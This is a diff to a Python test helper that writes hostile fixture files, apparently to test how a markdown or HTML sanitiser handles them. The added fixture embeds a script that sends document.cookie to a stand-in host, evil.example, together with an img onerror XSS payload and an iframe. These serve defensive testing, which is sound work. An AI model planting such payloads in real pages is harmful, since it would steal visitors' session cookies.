@@ -264,6 +264,14 @@ def write_hostile_batch(folder: Path) -> dict[str, Path]:
         "<script type=\"module\">import('https://evil.example/module.js')</script>"
         "<noscript>noscript-fallback</noscript></body></html>",
     )
+    put(
+        "script_md",
+        "2022-07-08-script.md",
+        '---\ntitle: "Scripted news"\ndate: 2022-07-08\n---\nBismuth was mapped in the scripted news.\n\n'
+        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n\n"
+        '<style>.steal{color:red}</style><img src="x" onerror="alert(1)"> '
+        '<iframe src="https://evil.example/frame">frame-fallback</iframe>\n',
+    )
     put("png_as_md", "picture.md", b"\x89PNG\r\n\x1a\n" + bytes(200))
     put("elf_as_md", "program.md", b"\x7fELF\x02\x01\x01" + bytes(300))
     put(
